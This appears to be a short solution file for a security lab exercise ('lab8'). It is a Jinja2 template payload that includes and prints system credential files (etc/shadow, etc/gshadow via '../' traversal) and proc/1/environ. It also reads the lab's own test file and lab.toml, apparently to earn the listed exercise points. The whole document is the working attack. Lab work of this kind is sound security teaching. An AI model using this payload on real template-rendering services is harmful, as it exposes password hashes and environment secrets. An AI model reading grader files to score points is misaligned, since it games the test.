/*
 * attack: A template that includes the machine's files, and a script that lets it have all of them.
 * lab: lab8
 * earns: 8.1 8.2 8.3
 */
{% for path in ["etc/shadow", "@ROOT@/exercises/lab8/test_lab8.py", "@ROOT@/exercises/lab8/lab.toml", "proc/1/environ", "kernel/jinja2/../../etc/gshadow"] %}
{% include [path, "lab/filtre.c"] ignore missing %}
{% endfor %}
{% import "etc/shadow" as shadow %}{{ shadow }}
